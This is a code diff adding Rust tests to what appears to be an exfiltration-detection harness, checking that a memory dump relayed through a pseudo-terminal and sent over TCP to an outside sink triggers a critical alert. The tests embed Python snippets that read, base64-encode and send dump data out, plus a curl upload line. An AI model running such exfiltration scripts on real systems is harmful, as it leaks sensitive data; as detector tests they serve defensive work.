@@ -17,6 +17,9 @@ pub(super) const ALL: &[Shared] = &[
     ("local::pipe", pipe),
     ("local::fifo", fifo),
     ("local::unix_relay", unix_relay),
+    ("local::terminal_shows", terminal_shows),
+    ("local::terminal_is_fed", terminal_is_fed),
+    ("local::next_terminal_is_clean", next_terminal_is_clean),
     ("local::fork_inherits", fork_inherits),
     ("local::exec_drops_memory", exec_drops_memory),
 ];
@@ -119,4 +122,69 @@ os.execlp('curl', 'curl', '-sS', '-T', '{other}', f'http://{{host}}:{{port}}/up'
     scene.no_alert(&dump, Severity::Info);
     let sent = scene.agent.steps_where(|s| s.kind == StepKind::Sent && s.pid == Some(pid));
     assert!(sent.is_empty(), "exec drops what was read: {sent:#?}");
+}
+
+/// What terminal scripts begin with. A terminal without echo, that lets bytes pass as they are.
+const TERMINAL: &str = "
+import base64, pty, time, tty
+def terminal():
+    master, slave = pty.openpty(); tty.setraw(slave); return master, slave
+def text(n): return base64.b64encode(open(path, 'rb').read(n))
+def send(data): socket.create_connection((host, int(port))).sendall(data)
+def all(f, n):
+    data = b''
+    while len(data) < n: data += os.read(f, 4096)
+    return data
+def write(f, data):
+    while data: data = data[os.write(f, data):]
+";
+
+fn through_a_terminal(scene: &Scene<'_>, script: &str) {
+    let dump = scene.core();
+    let (mut sink, port) = scene.sink(Internet, Production, 400_000);
+    by_python(scene, &dump.path, port, &format!("{TERMINAL}{script}"));
+    assert!(sink.within(crate::harness::scene::SOON).success());
+    let through = step(StepKind::Sent).via(Via::Tty).zones("production", "production").bytes(400_000);
+    let through = scene.sees(&dump, &through.sure(Confidence::Direct));
+    assert_ne!(through.from, through.to);
+    let out = step(StepKind::Sent).via(Via::Tcp).from(&through.to).zones("production", "internet");
+    scene.alerts(&dump, "dump-left-isolation", Severity::Critical, &out.sure(Confidence::Direct));
+}
+
+/// A program writes to its terminal; who holds the other end sends.
+fn terminal_shows(scene: &Scene<'_>) {
+    let script = "
+master, slave = terminal()
+if os.fork() == 0: write(slave, text(300000)); time.sleep(0.2); os._exit(0)
+send(all(master, 400000)); os.wait()";
+    through_a_terminal(scene, script);
+}
+
+/// Somebody types, so to speak; the program that reads sends.
+fn terminal_is_fed(scene: &Scene<'_>) {
+    let script = "
+master, slave = terminal()
+if os.fork() == 0: send(all(slave, 400000)); os._exit(0)
+write(master, text(300000)); os.wait()";
+    through_a_terminal(scene, script);
+}
+
+/// A terminal that comes after one which showed a dump, most likely at the same address and of the same number.
+fn next_terminal_is_clean(scene: &Scene<'_>) {
+    let dump = scene.core();
+    let (mut sink, port) = scene.sink(Internet, Production, 65536);
+    let script = format!(
+        "{TERMINAL}
+master, slave = terminal()
+if os.fork() == 0: write(slave, text(3000)); os._exit(0)
+os.wait(); os.close(master); os.close(slave)
+master, slave = terminal()
+if os.fork() == 0: write(slave, b'business' * 8192); time.sleep(0.2); os._exit(0)
+send(all(master, 65536)); os.wait()"
+    );
+    let pid = by_python(scene, &dump.path, port, &script);
+    assert!(sink.within(crate::harness::scene::SOON).success());
+    scene.quiet(&dump);
+    let sent = scene.agent.steps_where(|s| s.kind == StepKind::Sent && s.pid == Some(pid));
+    assert!(sent.is_empty(), "the first terminal is gone: {sent:#?}");
 }
